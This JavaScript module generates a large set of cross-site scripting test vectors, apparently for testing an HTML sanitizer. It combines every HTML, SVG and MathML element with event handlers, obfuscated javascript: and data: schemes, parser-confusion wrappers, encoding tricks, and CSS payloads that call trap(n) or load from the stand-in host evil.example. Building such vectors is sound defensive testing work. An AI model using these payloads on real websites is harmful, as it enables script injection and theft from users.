// Texts that would run a script if anything let them: every element, event, address attribute and
// scheme, and the ways in which parsers were led astray. Each calls trap(n) with its own number when
// it runs, or asks for something at evil.example. They are put together by rule from the names that
// the standards have, so that a name added to a list is tried in all places.

const html = `a abbr address area article aside audio b base bdi bdo blockquote body br button canvas
caption cite code col colgroup data datalist dd del details dfn dialog div dl dt em embed fieldset
figcaption figure footer form h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe img input ins kbd
label legend li link main map mark menu meta meter nav noscript object ol optgroup option output p
picture pre progress q rp rt ruby s samp script search section select slot small source span strong
style sub summary sup table tbody td template textarea tfoot th thead time title tr track u ul var
video wbr acronym applet basefont bgsound big blink center command content dir element font frame
frameset image isindex keygen layer listing marquee menuitem multicol nextid nobr noembed noframes
param plaintext portal rb rtc shadow spacer strike tt xmp xss custom-element o:p w:sdt`;
const svg = `svg a animate animateMotion animateTransform circle clipPath defs desc discard ellipse
feBlend feFlood feImage filter foreignObject g image line linearGradient marker mask metadata mpath path
pattern polygon polyline radialGradient rect script set stop style switch symbol text textPath title
tspan use view handler listener cursor font-face-uri solidcolor`;
const math = `math annotation annotation-xml maction malignmark menclose merror mfenced mfrac mglyph mi
mlabeledtr mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle msub
msup mtable mtd mtext mtr munder semantics`;
const events = `abort afterprint animationcancel animationend animationiteration animationstart auxclick
beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin
blur bounce cancel canplay canplaythrough change click close contextmenu contentvisibilityautostatechange
copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange
emptied end ended error filterchange finish focus focusin focusout formdata fullscreenchange
gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata
loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout
mouseover mouseup mousewheel offline online pagehide pageshow paste pause play playing pointercancel
pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup
popstate progress propertychange ratechange readystatechange repeat reset resize scroll scrollend search
securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled start
storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel
transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting
webkitanimationstart wheel`;
const words = (text) => text.split(/\s+/).filter(Boolean);

// An address attribute, and the element around which it stands.
const places = words(`a.href a.ping a.xlink:href applet.archive applet.code applet.codebase area.href
audio.src base.href blockquote.cite body.background button.formaction command.icon del.cite embed.src
embed.code form.action frame.longdesc frame.src head.profile html.manifest iframe.longdesc iframe.src
iframe.srcdoc image.src img.dynsrc img.longdesc img.lowsrc img.src img.srcset img.usemap input.formaction
input.src ins.cite isindex.action layer.src link.href link.imagesrcset meta.content object.archive
object.classid object.codebase object.data param.value portal.src q.cite script.href script.src
script.xlink:href source.src source.srcset table.background td.background th.background track.src
video.poster video.src svg/a.href svg/a.xlink:href svg/animate.to svg/animate.values svg/feImage.href
svg/image.xlink:href svg/script.href svg/set.to svg/use.href svg/use.xlink:href math/mi.href
math/mi.xlink:href math/math.definitionURL`);

const base64 = (text) => Buffer.from(text).toString('base64');
const entities = (text, write) => [...text].map((c) => write(c.codePointAt(0))).join('');

// A byte that is no UTF-8 stands in the generator as a private character, and goes out as itself.
const byte = (n) => String.fromCharCode(0xf700 + n);

// The spellings of a script's address.
function schemes(call) {
    const js = `javascript:${call}`;
    const page = `<script>${call}</script>`;
    const picture = `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`;
    const spelt = [
        js,
        `JaVaScRiPt:${call}`,
        `JAVASCRIPT:${call}`,
        `${js}//http://a.example/`,
        `javascript://a.example/%0a${call}`,
        `javascript://%0d%0a${call}`,
        `javascript:/*--></title></style></textarea></script>*/${call}`,
        `java%0ascript:${call}`,
        `javascript%3a${call}`,
        `%6aavascript:${call}`,
        `&#106;avascript:${call}`,
        `&#x6A;avascript:${call}`,
        `&#0000106avascript:${call}`,
        `&#x000006Aavascript:${call}`,
        `javascript&colon;${call}`,
        `javascript&#58${call}`,
        `java&Tab;script:${call}`,
        `java&NewLine;script:${call}`,
        `java&#9;script:${call}`,
        `java&#10;script:${call}`,
        `java&#13;script:${call}`,
        `java&amp;Tab;script:${call}`,
        `&amp;#106;avascript:${call}`,
        entities(js, (n) => `&#${n};`),
        entities(js, (n) => `&#${n}`),
        entities(js, (n) => `&#x${n.toString(16)};`),
        `vbscript:${call}`,
        `VbScRiPt:${call}`,
        `livescript:${call}`,
        `mocha:${call}`,
        `feed:${js}`,
        `view-source:${js}`,
        `jar:${js}!/`,
        `data:text/html,${page}`,
        `data:text/html;base64,${base64(page)}`,
        `DATA:text/html;charset=utf-7,+ADw-script+AD4-${call}+ADw-/script+AD4-`,
        `data:image/svg+xml,${picture}`,
        `data:image/svg+xml;base64,${base64(picture)}`,
        `data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml">${page}</html>`,
        `data:,${page}`,
        `data:text/javascript,${call}`,
        `blob:null/${call}`,
        `filesystem:http://a.example/${call}`,
        `about:blank#${js}`,
        `\\\\evil.example/x`,
        `/\\evil.example/x`,
        `http:evil.example`,
        `https://a.example@evil.example/`,
        `ｊａｖａｓｃｒｉｐｔ：${call}`,
        `jаvascript:${call}`,
        `javaſcript:${call}`,
        `javascrıpt:${call}`,
        `javascript：${call}`,
        `java\u200bscript:${call}`,
        `java\u00adscript:${call}`,
        `\u202ejavascript:${call}`,
        `\ufeffjavascript:${call}`,
        `\u00a0javascript:${call}`,
        `\u3000javascript:${call}`,
        `\u2028javascript:${call}`,
        `java\ud83dscript:${call}`,
        `java${byte(0xc0)}${byte(0x80)}script:${call}`,
        `${byte(0xc1)}${byte(0xaa)}avascript:${call}`,
    ];
    for (const code of [0, 1, 8, 9, 10, 12, 13, 27, 31, 32, 127])
        for (const put of [(c) => `${c}${js}`, (c) => `java${c}script:${call}`, (c) => `javascript${c}:${call}`])
            spelt.push(put(String.fromCharCode(code)));
    return spelt;
}

function inPlace(place, value) {
    const [path, attribute] = place.split('.');
    const [space, name] = path.includes('/') ? path.split('/') : ['', path];
    const quoted = value.replaceAll('"', '&quot;');
    const more = {
        meta: 'http-equiv=refresh ',
        script: 'type=text/javascript ',
        link: 'rel=stylesheet ',
        input: 'type=image ',
        object: 'type=text/html ',
        animate: 'attributeName=href ',
        set: 'attributeName=href ',
        video: 'autoplay ',
        audio: 'autoplay ',
    };
    const before = name === 'meta' ? '0;url=' : '';
    const tag = `<${name} ${more[name] ?? ''}${attribute}="${before}${quoted}">chữ</${name}>`;
    return space ? `<${space}>${tag}</${space}>` : tag;
}

// What runs at once, or when it is touched.
const carriers = (call) => [
    `<img src=x onerror=${call}>`,
    `<svg onload=${call}>`,
    `<script>${call}</script>`,
    `<a href="javascript:${call}">chữ</a>`,
    `<iframe srcdoc="&lt;script>parent.${call}&lt;/script>"></iframe>`,
    `<details open ontoggle=${call}><summary>a</summary></details>`,
    `<input autofocus onfocus=${call}>`,
    `<style onload=${call}>a{}</style>`,
    `<body onload=${call}>`,
];

// Where parsers change their mind: "%" is the carrier.
const surroundings = [
    '<table>%', '<table><tr>%', '<table><tr><td>%', '<table><caption>%', '<table><colgroup>%',
    '<table><tbody>%</table>', '<table><tr><select>%', '<select>%', '<select><option>%',
    '<select><template>%', '<template>%</template>', '<template><template>%', '<noscript>%</noscript>',
    '<noscript><p title="</noscript>%">', '<style>%</style>', '<style><!--</style>%-->',
    '<xmp>%</xmp>', '<xmp><p title="</xmp>%">', '<textarea>%</textarea>', '<textarea><p title="</textarea>%">',
    '<title>%</title>', '<title><p title="</title>%">', '<plaintext>%', '<listing>%</listing>',
    '<noembed>%</noembed>', '<noembed><p title="</noembed>%">', '<noframes>%</noframes>',
    '<noframes><p title="</noframes>%">', '<iframe>%</iframe>', '<iframe><p title="</iframe>%">',
    '<script>%</script>', '<script><!--<script>%</script>', '<!--%-->', '<!-->%-->', '<!--->%-->',
    '<!-- --!>%-->', '<!--[if IE]>%<![endif]-->', '<![if !IE]>%<![endif]>', '<![CDATA[%]]>',
    '<svg><![CDATA[><p title="]]>%">', '<?xml version="1.0"?>%', '<?php %?>', '<!DOCTYPE x [%]>',
    '<!ENTITY a "%">', '</p>%', '</br>%', '</ %>', '<//%', '<svg>%', '<svg><style>%</style></svg>',
    '<svg><style><p title="</style>%">', '<svg><desc>%', '<svg><title>%', '<svg><foreignObject>%',
    '<svg><foreignObject><p title="</foreignObject>%">', '<svg></p><style><a title="</style>%">',
    '<svg><p>%', '<svg><font color>%', '<svg><a><svg>%', '<math>%', '<math><mtext>%', '<math><mi>%',
    '<math><annotation-xml encoding="text/html">%', '<math><annotation-xml encoding="application/xhtml+xml">%',
    '<math><annotation-xml>%', '<math><mtext><table><mglyph><style><!--</style>%',
    '<form><math><mtext></form><form><mglyph><style></math>%', '<math><mtext><mglyph><svg><mtext><style>%',
    '<math><p><style><!--</style>%--></style>', '<svg></br><style><p title="</style>%">', '<form><form>%',
    '<form><input name=attributes>%', '<form><input name=parentNode>%', '<frameset>%', '<body><frameset>%',
    '<button>%', '<button><p><button>%', '<details open>%', '<dialog open>%', '<marquee>%', '<applet>%',
    '<object>%', '<object data=x>%</object>', '<video><source onerror=1>%', '<audio>%', '<canvas>%',
    '<ruby><rt><rp>%', '<a><a>%', '<a><table><a>%', '<b><i><p></b>%', '<nobr><p><nobr>%',
    '<p><table><p>%', '<li><table><li>%', '<h1><h2>%', '<dd><dt>%', '<head>%', '<html><body>%',
    '<body><html><head>%', '<image>%', '<isindex prompt="%">', '<keygen>%', '<o:p>%</o:p>',
    '<w:sdt>%</w:sdt>', '<xml id=x>%</xml>', '<xml><i><b>%', '<slot>%', '<portal>%', '<map><area>%',
    '<datalist><option>%', '<optgroup>%', '<fieldset><legend>%', '<object><param value="%">',
    `<b><i><u><s>${'<b>'.repeat(20)}%`, `${'<div>'.repeat(200)}%`, `${'<table><tr><td>'.repeat(30)}%`,
    `${'<font>'.repeat(12)}<p>%`, `<p title="${'a'.repeat(9000)}">%`, `<p ${'a '.repeat(50)}>%`,
];

// The same start tag, spelt so that scanners lose their way.
const spellings = (call) => [
    `<img/src=x/onerror=${call}>`, `<img src=x onerror\n=\n${call}>`, `<img\tsrc=x\tonerror=${call}>`,
    `<img\fsrc=x\fonerror=${call}>`, `<img\rsrc=x\ronerror=${call}>`, `<IMG SRC=x ONERROR=${call}>`,
    `<img src=x ONerror="${call}">`, `<img src=x onerror='${call}'>`, `<img src=x onerror=\`${call}\`>`,
    `<img src="x"onerror="${call}">`, `<img src=x onerror="${call}"`, `<img src=x onerror=${call}`,
    `<img src=x onerror="${call}`, `<img src="x onerror=${call}>`, `<img "><script>${call}</script>">`,
    `<img ''''><script>${call}</script>'>`, `<img title="><img src=x onerror=${call}>`,
    `<img title='><img src=x onerror=${call}>`, `<img title=\`><img src=x onerror=${call}>\``,
    `<a title="-->"><img src=x onerror=${call}>`, `<<img src=x onerror=${call}>`, `<<script>${call}//<</script>`,
    `<img src=x src=y onerror=${call} onerror=1>`, `<img src=x onerror=1 ONERROR=${call}>`,
    `<img src=x\0onerror=${call}>`, `<img\0src=x onerror=${call}>`, `<i\0mg src=x onerror=${call}>`,
    `<img src=x on\0error=${call}>`, `<scr\0ipt>${call}</script>`, `<script\0>${call}</script>`,
    `<script/a>${call}</script>`, `<script >${call}</script >`, `<script\n>${call}</script\n>`,
    `<script>${call}</script/>`, `<script>${call}</script bar>`, `<script>${call}<!--`, `<script>${call}`,
    `<script src=data:,${call}>`, `<script src=//evil.example/x.js></script>`, `<SCRIPT>${call}</SCRIPT>`,
    `<script type=module>${call}</script>`, `<script type="text/ecmascript">${call}</script>`,
    `<script language=vbscript>${call}</script>`, `<script async defer>${call}</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`, `<scr<!-- -->ipt>${call}</script>`,
    `<<a>script>${call}</script>`, `<div><script>${call}</div></script>`, `%3Cscript%3E${call}%3C/script%3E`,
    `&lt;script&gt;${call}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
    `&#60;img src=x onerror=${call}&#62;`, `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
    `\\u003cimg src=x onerror=${call}\\u003e`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `<meta charset=utf-7>+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `<meta http-equiv=content-type content="text/html; charset=utf-16">`,
    `<meta http-equiv=refresh content="0; url=javascript:${call}">`,
    `<meta http-equiv=refresh content="0;url=data:text/html,<script>${call}</script>">`,
    `<meta http-equiv=set-cookie content="trap=${call}">`,
    `<meta http-equiv=content-security-policy content="default-src *">`,
    `<base href="javascript:/*"><a href="*/${call}">chữ</a>`, `<base href=//evil.example/><img src=x>`,
    `<base target="';${call}//"><a href=/>chữ</a>`, `<html manifest=//evil.example/m>`,
    `${byte(0xc0)}${byte(0xbc)}script>${call}${byte(0xc0)}${byte(0xbc)}/script>`,
    `${byte(0xe0)}${byte(0x80)}${byte(0xbc)}img src=x onerror=${call}>`,
    `${byte(0xf0)}${byte(0x80)}${byte(0x80)}${byte(0xbc)}img src=x onerror=${call}>`,
    `<img title="${byte(0xc3)}" onerror=${call} src=x>`, `<img title="${byte(0xf0)}"><img src=x onerror=${call}>`,
    `<img title="\ud83d" src=x onerror=${call}>`, `\udc3c<img src=x onerror=${call}>`,
    `${byte(0xff)}${byte(0xfe)}<\0s\0c\0r\0i\0p\0t\0>\0${call}`, `\ufeff<script>${call}</script>`,
    `${byte(0x1b)}$B<script>${call}</script>`, `＜script＞${call}＜/script＞`, `‹img src=x onerror=${call}›`,
    `<ſcript>${call}</ſcript>`, `<scrıpt>${call}</scrıpt>`, `<img src=x οnerror=${call}>`,
    `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${call}</svg:script>`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
    `<html:script>${call}</html:script>`, `<svg><script>${call}</script></svg>`, `<svg><script>&#116;rap${call.slice(4)}</script></svg>`,
    `<svg><script href="data:text/javascript,${call}"/></svg>`, `<math><script>${call}</script></math>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`, `<svg><set onbegin=${call} attributeName=x></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${call}"/><text y=20>chữ</text></a></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${call}</handler></svg>`,
    `<math><maction actiontype="statusline#javascript:${call}" xlink:href="javascript:${call}">a</maction></math>`,
    `<math href="javascript:${call}">chữ</math>`, `<form action="javascript:${call}"><button>chữ</button></form>`,
    `<form id=f></form><button form=f formaction="javascript:${call}">chữ</button>`,
    `<form><input type=submit formaction="javascript:${call}" value=chữ></form>`,
    `<isindex type=image src=x onerror=${call}>`, `<button onclick=${call} autofocus onfocus=${call}>chữ</button>`,
    `<a href=/ ping=//evil.example/>chữ</a>`, `<a href="x" onclick=${call} id=x tabindex=1 onfocus=${call}>chữ</a>`,
    `<p id=x tabindex=1 onfocus=${call} contenteditable>chữ`, `<xss style="animation-name:x" onanimationstart=${call}>`,
    `<video src=x onerror=${call}>`, `<video><source onerror=${call} src=x></video>`, `<audio src onerror=${call}>`,
    `<embed src="data:text/html,<script>parent.${call}</script>">`, `<embed code=//evil.example/x.swf allowscriptaccess=always>`,
    `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
    `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=dataurl value="javascript:${call}"></object>`,
    `<iframe src="javascript:parent.${call}"></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    `<iframe onload=${call}></iframe>`, `<iframe src=//evil.example/></iframe>`,
    `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example/x.html>`,
    `<link rel=preload as=image href=//evil.example/x.png>`, `<link rel=dns-prefetch href=//evil.example>`,
    `<link rel=stylesheet href="data:,*{background:url(//evil.example/x)}" onload=${call}>`,
    `<portal src=//evil.example/ onload=${call}></portal>`, `<img src=//evil.example/x.png>`,
    `<img srcset="//evil.example/x.png 1x">`, `<picture><source srcset=//evil.example/x.png><img alt=a></picture>`,
    `<table background=//evil.example/x.png><tr><td>a</table>`, `<video poster=//evil.example/x.png></video>`,
    `<input type=image src=//evil.example/x.png>`, `<svg><image href=//evil.example/x.png></svg>`,
    `<svg><filter><feImage href=//evil.example/x.png></filter></svg>`, `<bgsound src=//evil.example/x.wav>`,
    `<body background=//evil.example/x.png>`, `<frameset onload=${call}><frame src=//evil.example/></frameset>`,
    `<details ontoggle=${call} open>`, `<dialog open onclose=${call}><form method=dialog><button>chữ</button></form>`,
    `<marquee onstart=${call}>a</marquee>`, `<select autofocus onfocus=${call}>`, `<keygen autofocus onfocus=${call}>`,
    `<textarea autofocus onfocus=${call}>`, `<input oninput=${call} value=a>`, `<input type=hidden accesskey=x onclick=${call}>`,
    `<label for=x onclick=${call}>chữ</label>`, `<slot onslotchange=${call}></slot>`,
    `<template shadowrootmode=open><script>${call}</script></template>`,
    `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
    `<button popovertarget=x>chữ</button><div popover id=x onbeforetoggle=${call}>a</div>`,
];

const styles = (call) => [
    `background:url(//evil.example/x)`, `background:url("javascript:${call}")`, `width:expression(${call})`,
    `wid/**/th:exp/**/ression(${call})`, `\\77idth:\\65xpression(${call})`, `behavior:url(//evil.example/x.htc)`,
    `-moz-binding:url(//evil.example/x.xml#x)`, `list-style-image:url(//evil.example/x)`,
    `content:url(//evil.example/x)`, `cursor:url(//evil.example/x),auto`, `filter:url(//evil.example/x#f)`,
    `mask:url(//evil.example/x)`, `border-image:url(//evil.example/x)`, `@import "//evil.example/x"`,
    `background:image-set("//evil.example/x" 1x)`, `background:\\75\\72\\6c(//evil.example/x)`,
    `position:fixed;inset:0;z-index:9`, `}*{background:url(//evil.example/x)}`, `x:</style><script>${call}</script>`,
];

const sheets = (rule) => [
    `<p style="${rule.replaceAll('"', '&quot;')}">chữ</p>`,
    `<style>p{${rule}}</style><p>chữ</p>`,
];

// The vectors for bodies, numbered from 0: `raw` is the foreign HTML.
export function bodyVectors() {
    const made = [];
    const add = (kind, write) => {
        const number = made.length;
        made.push({ number, kind, raw: write(`trap(${number})`) });
    };
    const eventNames = words(events);
    const wrap = { html: (tag) => tag, svg: (tag) => `<svg>${tag}</svg>`, math: (tag) => `<math>${tag}</math>` };
    let turn = 0;
    for (const [space, names] of Object.entries({ html, svg, math }))
        for (const name of words(names))
            for (const event of ['load', 'click', eventNames[turn++ % eventNames.length]])
                add('element', (call) => wrap[space](`<${name} on${event}="${call}" tabindex=0>chữ</${name}>`));
    for (const event of eventNames)
        for (const name of ['p', 'a href=/', 'img src=x'])
            add('event', (call) => `<${name} on${event}=${call}>chữ</${name.split(' ')[0]}>`);
    const schemeCount = schemes('').length;
    for (let n = 0; n < schemeCount; n++)
        for (const place of ['a.href', 'img.src'])
            add('scheme', (call) => inPlace(place, schemes(call)[n]));
    for (const place of places)
        for (let k = 0; k < 6; k++) {
            const n = k < 2 ? [0, 33][k] : (turn = (turn + 7) % schemeCount);
            add('address', (call) => inPlace(place, schemes(call)[n]));
        }
    surroundings.forEach((around, n) => {
        for (const k of [0, 2, 1 + (n % (carriers('').length - 1))])
            add('surrounding', (call) => around.replace('%', () => carriers(call)[k]));
    });
    for (let n = 0; n < spellings('trap()').length; n++) add('spelling', (call) => spellings(call)[n]);
    for (let n = 0; n < styles('').length; n++)
        for (let k = 0; k < 2; k++) add('style', (call) => sheets(styles(call)[n])[k]);
    return made;
}

// Vectors for texts that are no HTML: titles, names, captions. They are to be read as they stand.
export function textVectors() {
    const write = [
        (call) => `<script>${call}</script>`,
        (call) => `"><script>${call}</script>`,
        (call) => `'><img src=x onerror=${call}>`,
        (call) => `" onmouseover="${call}" x="`,
        (call) => `' onfocus='${call}' autofocus x='`,
        (call) => `--><svg onload=${call}>`,
        (call) => `</title><script>${call}</script>`,
        (call) => `</textarea><script>${call}</script>`,
        (call) => `</script><script>${call}</script>`,
        (call) => `]]><script>${call}</script>`,
        (call) => `javascript:${call}`,
        (call) => `&lt;img src=x onerror=${call}&gt;`,
        (call) => `{{${call}}} \${${call}} #{${call}} <%= ${call} %>`,
        (call) => `\`-${call}-\``,
        (call) => `\\";${call}//`,
        (call) => `</style><style>*{background:url(//evil.example/x)}</style>`,
        (call) => `<base href=//evil.example/><meta http-equiv=refresh content=0;url=javascript:${call}>`,
        (call) => `<mark><img src=x onerror=${call}></mark>`,
    ];
    return write.map((text, number) => ({ number, text: text(`trap(${number})`) }));
}

// The text as bytes, with those that are no UTF-8.
export function asBytes(text) {
    const parts = [];
    let from = 0;
    for (let at = 0; at < text.length; at++) {
        const code = text.charCodeAt(at);
        if (code < 0xf700 || code > 0xf7ff) continue;
        parts.push(Buffer.from(text.slice(from, at)), Buffer.from([code - 0xf700]));
        from = at + 1;
    }
    parts.push(Buffer.from(text.slice(from)));
    return Buffer.concat(parts);
}
